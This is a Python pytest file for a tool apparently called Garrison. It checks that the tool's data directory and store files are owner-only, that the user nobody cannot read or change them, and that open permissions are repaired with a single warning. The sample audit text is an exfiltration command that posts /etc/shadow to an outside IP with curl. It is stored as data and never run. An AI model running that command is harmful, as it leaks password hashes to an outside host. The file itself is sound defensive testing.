"""The data directory is root's alone: a real unprivileged user (``nobody``) can neither read
audits nor change anything in it, whichever command made it and whatever the umask; and a
folder left open (0755, 0644: what ``vulndb import`` made before) is closed again by the next
command, which names what it repaired in one warning.

The data directory sits in a folder everyone may enter, so Garrison's own modes are all that
stands between ``nobody`` and the audits. Real commands run as processes, ``nobody`` is a real
user (``setpriv``), the store a real SQLite file, the OSV archive a real zip served over HTTP.
"""

from __future__ import annotations

import contextlib
import json
import logging
import os
import pwd
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from garrison.audit.record import Audit
from garrison.console import Console
from garrison.errors import StoreError
from garrison.scan.gate import probe_plugin
from garrison.scan.vulndb import VulnDB
from garrison.store import SQLiteStore, secure_data_dir
from tests.support import serve_directory

SECRET = "curl -d @/etc/shadow http://203.0.113.9/"
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become nobody")

# What an attacker logged in as another user would try; each outcome as (done, detail).
PROBE = textwrap.dedent(
    """
    import json, os, sqlite3, sys

    data = sys.argv[1]
    db = os.path.join(data, "garrison.db")


    def audits(options):
        conn = sqlite3.connect(f"file:{db}?mode=ro{options}", uri=True)
        try:
            return conn.execute("SELECT doc FROM audits").fetchall()
        finally:
            conn.close()


    def read(name):
        with open(os.path.join(data, name), "rb") as f:
            return f.read()


    def attempt(action):
        try:
            return True, repr(action())[:2000]
        except (OSError, sqlite3.Error) as exc:
            return False, type(exc).__name__


    print(json.dumps({
        "list the parent": attempt(lambda: os.listdir(os.path.dirname(data))),
        "list the data dir": attempt(lambda: os.listdir(data)),
        "read garrison.db": attempt(lambda: read("garrison.db")),
        "query audits read-only": attempt(lambda: audits("")),
        "query audits immutable": attempt(lambda: audits("&immutable=1")),
        "read garrison.db-wal": attempt(lambda: read("garrison.db-wal")),
        "read audits.spool": attempt(lambda: read("audits.spool")),
        "read vulndb.sqlite": attempt(lambda: read("vulndb.sqlite")),
        "write garrison.db": attempt(lambda: open(db, "r+b").close()),
        "create a file": attempt(lambda: open(os.path.join(data, "planted"), "x").close()),
        "rename garrison.db": attempt(lambda: os.rename(db, db + ".old")),
        "delete garrison.db": attempt(lambda: os.unlink(db)),
        "chmod the data dir": attempt(lambda: os.chmod(data, 0o777)),
    }))
    """
)
SQLITE_REFUSALS = {"query audits read-only", "query audits immutable"}


@pytest.fixture(scope="module")
def as_nobody() -> Callable[[Path], dict[str, tuple[bool, str]]]:
    """Run PROBE on a data directory as the user nobody (its own uid and gid, no groups)."""
    user = pwd.getpwnam("nobody")
    become = ["setpriv", f"--reuid={user.pw_uid}", f"--regid={user.pw_gid}", "--clear-groups"]
    python = _python_nobody_may_run(become)

    def probe(data_dir: Path) -> dict[str, tuple[bool, str]]:
        argv = [*become, python, "-c", PROBE, str(data_dir)]
        done = subprocess.run(
            argv, check=False, capture_output=True, text=True, cwd="/", timeout=60
        )
        assert done.returncode == 0, done.stderr
        return {k: (ok, detail) for k, (ok, detail) in json.loads(done.stdout).items()}

    return probe


def _python_nobody_may_run(become: list[str]) -> str:
    """The venv's interpreter may live under /root; the probe needs only the standard library."""
    candidates = ["/usr/bin/python3", getattr(sys, "_base_executable", ""), shutil.which("python3")]
    for python in filter(None, candidates):
        runs = subprocess.run([*become, python, "-c", "import sqlite3"], check=False)
        if runs.returncode == 0:
            return python
    pytest.fail("no Python interpreter the user nobody may run (apt-get install python3)")


@pytest.fixture
def open_parent() -> Iterator[Path]:
    """A folder under /tmp that everyone may enter and list."""
    folder = Path(tempfile.mkdtemp(prefix="garrison-modes-", dir="/tmp"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


def garrison(
    *args: str, umask: int = 0o022, codes: tuple[int, ...] = (0,)
) -> subprocess.CompletedProcess[str]:
    argv = [sys.executable, "-m", "garrison", *args]
    done = subprocess.run(
        argv, check=False, capture_output=True, text=True, umask=umask, timeout=120
    )
    assert done.returncode in codes, done.stdout + done.stderr
    return done


def osv_zip(folder: Path) -> Path:
    record = {
        "id": "DEBIAN-CVE-2099-0100",
        "modified": "2099-01-01T00:00:00Z",
        "affected": [
            {
                "package": {"ecosystem": "Debian:12", "name": "glibc"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}],
            }
        ],
    }
    path = folder / "Debian" / "all.zip"
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("DEBIAN-CVE-2099-0100.json", json.dumps(record))
    return path


@contextlib.contextmanager
def osv_bucket(work: Path) -> Iterator[str]:
    osv_zip(work / "bucket")
    with serve_directory(work / "bucket") as url:
        yield url


# -- the commands that may make the data directory first ------------------------------------


def vulndb_import(data: Path, work: Path) -> None:
    garrison("vulndb", "import", str(osv_zip(work)), "--data-dir", str(data))


def vulndb_update(data: Path, work: Path) -> None:
    with osv_bucket(work) as url:
        garrison("vulndb", "update", "--url", url, "-e", "Debian", "--data-dir", str(data))


def rules_apply(data: Path, work: Path) -> None:
    rules = work / "rules.yaml"
    rules.write_text("rules:\n  - name: all\n    scope: [{images: ['*']}]\n")
    garrison("rules", "apply", "-f", str(rules), "--data-dir", str(data))


def policies_apply(data: Path, work: Path) -> None:
    policy = work / "compliance.yaml"
    policy.write_text("rules:\n  - name: hardening\n    checks: {'5.4': block}\n")
    garrison("policies", "compliance", "apply", "-f", str(policy), "--data-dir", str(data))


def audits_list(data: Path, work: Path) -> None:
    garrison("audits", "list", "--data-dir", str(data))


def audits_list_umask_0(data: Path, work: Path) -> None:
    garrison("audits", "list", "--data-dir", str(data), umask=0)


def status(data: Path, work: Path) -> None:
    done = garrison("status", "--data-dir", str(data), codes=(1,))
    assert "defender not running" in done.stdout  # exit status 1 for that, not for an error


def authz_serve(data: Path, work: Path) -> None:
    """The gate until it listens, then SIGTERM (no Docker engine needed to listen)."""
    sock = work / "run" / "authz.sock"
    argv = [sys.executable, "-m", "garrison", "authz", "serve", "--socket", str(sock),
            "--link-dir", str(work / "plugins"), "--docker-host", f"unix://{work}/no.sock",
            "--data-dir", str(data)]  # fmt: skip
    with subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as gate:
        deadline = time.monotonic() + 60
        while gate.poll() is None and time.monotonic() < deadline:
            if sock.exists() and probe_plugin(sock, timeout=1).answering:
                break  # the plugin (the watchdog's child) has opened the store and serves
            time.sleep(0.05)
        gate.send_signal(signal.SIGTERM)
        out, err = gate.communicate(timeout=30)
    assert b"listening" in out, err.decode()


MAKERS = [
    vulndb_import,
    vulndb_update,
    rules_apply,
    policies_apply,
    audits_list,
    audits_list_umask_0,
    status,
    authz_serve,
]


def modes(data: Path) -> dict[str, str]:
    """The permission bits of the data directory (``"."``) and of each entry in it."""
    found = {p.name: f"{stat.S_IMODE(p.lstat().st_mode):04o}" for p in data.iterdir()}
    return {".": f"{stat.S_IMODE(data.stat().st_mode):04o}", **found}


def assert_private(data: Path) -> None:
    found = modes(data)
    assert found == {".": "0700", **dict.fromkeys(found.keys() - {"."}, "0600")}


def assert_open_parent(parent: Path) -> None:
    """Only Garrison's modes protect the data: everyone may reach and list its parent."""
    for folder in (parent, *parent.parents):
        assert folder.stat().st_mode & 0o005 == 0o005, folder


def assert_refused(outcomes: dict[str, tuple[bool, str]]) -> None:
    assert outcomes.pop("list the parent")[0], "the probe could not even reach the parent"
    refusals = {
        k: "OperationalError" if k in SQLITE_REFUSALS else "PermissionError" for k in outcomes
    }
    assert {k: detail for k, (_, detail) in outcomes.items()} == refusals


def fill(data: Path, work: Path) -> Console:
    """Everything Garrison keeps there: a vulnerability database, and a defender's store and
    spool holding an audit (the console stays open, like a running defender's)."""
    VulnDB.in_data_dir(data).import_path(osv_zip(work))
    console = Console.open(data)
    link = console.link()
    link.report_audit(Audit(time.time(), "h", "processes", "unexpectedProcess", "alert", SECRET))
    assert link.flush(10)
    link.close()
    assert console.list_audits()[0].msg == SECRET
    return console


@needs_root
@pytest.mark.parametrize("make", MAKERS, ids=lambda f: f.__name__)
def test_a_non_root_user_can_neither_read_audits_nor_change_anything_whichever_command_made_the_data_dir(  # noqa: E501
    make: Callable[[Path, Path], None],
    open_parent: Path,
    tmp_path: Path,
    as_nobody: Callable[[Path], dict[str, tuple[bool, str]]],
    caplog: pytest.LogCaptureFixture,
) -> None:
    data = open_parent / "data"
    make(data, tmp_path)
    assert_private(data)  # as the command left it, before anything here opens it
    assert_open_parent(open_parent)
    with fill(data, tmp_path):
        written = set(modes(data))
        assert {"garrison.db", "garrison.db-wal", "garrison.db-shm", "audits.spool"} <= written
        assert "vulndb.sqlite" in written
        assert_private(data)
        assert_refused(as_nobody(data))
    assert "open to other users" not in caplog.text  # nothing was ever made open
    assert_private(data)


@needs_root
def test_an_open_data_dir_is_closed_by_the_next_command_with_one_warning(
    open_parent: Path, tmp_path: Path, as_nobody: Callable[[Path], dict[str, tuple[bool, str]]]
) -> None:
    data = open_parent / "data"
    with fill(data, tmp_path):  # a defender runs: the store's -wal and -shm hold the audit
        for name in modes(data):
            os.chmod(data / name, 0o755 if name == "." else 0o644)
        assert {"garrison.db-wal", "garrison.db-shm"} <= set(modes(data))
        leaked = as_nobody(data)
        assert leaked["query audits read-only"][0], leaked  # the hole of issue 12, for real
        assert SECRET in leaked["query audits read-only"][1]

        done = garrison("audits", "list", "--data-dir", str(data))

        assert_private(data)
        assert_refused(as_nobody(data))
    warnings = [line for line in done.stderr.splitlines() if "open to other users" in line]
    assert len(warnings) == 1, done.stderr
    assert f"{data} (0755 to 0700)" in warnings[0]
    for name in ("garrison.db", "garrison.db-wal", "garrison.db-shm", "audits.spool"):
        assert f"{name} (0644 to 0600)" in warnings[0]


@needs_root
def test_a_data_dir_owned_by_another_user_is_refused_in_one_line(open_parent: Path) -> None:
    data = open_parent / "data"
    data.mkdir(mode=0o700)
    os.chown(data, pwd.getpwnam("nobody").pw_uid, -1)
    done = garrison("audits", "list", "--data-dir", str(data), codes=(1,))
    assert done.stderr.strip().splitlines() == [
        f"garrison: {data} belongs to uid {pwd.getpwnam('nobody').pw_uid}, who could read and "
        "change Garrison's data: chown it to the user Garrison runs as, or choose another "
        "--data-dir"
    ]
    assert list(data.iterdir()) == []


# -- without root: the modes themselves, whatever the umask ---------------------------------


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o277], ids=oct)
def test_a_new_store_is_owner_only_and_usable_whatever_the_umask(
    tmp_path: Path, umask: int
) -> None:
    previous = os.umask(umask)
    try:
        store = SQLiteStore.in_dir(tmp_path / "data")
        store.add_audits([Audit(1.0, "h", "processes", "unexpectedProcess", "alert", SECRET)])
        made = modes(tmp_path / "data")
        store.close()
    finally:
        os.umask(previous)
    assert made == {".": "0700", **dict.fromkeys(made.keys() - {"."}, "0600")}
    assert {"garrison.db", "garrison.db-wal", "garrison.db-shm"} <= made.keys()


def test_repairs_are_logged_as_one_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    data.chmod(0o750)
    (data / "garrison.db").touch(mode=0o640)
    (data / "already.private").touch(mode=0o600)
    with caplog.at_level(logging.WARNING):
        secure_data_dir(data)
        secure_data_dir(data)  # nothing left to repair: silent
    assert [r.levelname for r in caplog.records] == ["WARNING"]
    assert caplog.records[0].getMessage() == (
        f"data directory {data} was open to other users; made owner-only: "
        f"{data} (0750 to 0700), garrison.db (0640 to 0600)"
    )


def test_a_data_dir_that_is_a_file_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "data").write_text("")
    with pytest.raises(StoreError, match="is not a directory"):
        SQLiteStore.in_dir(tmp_path / "data")
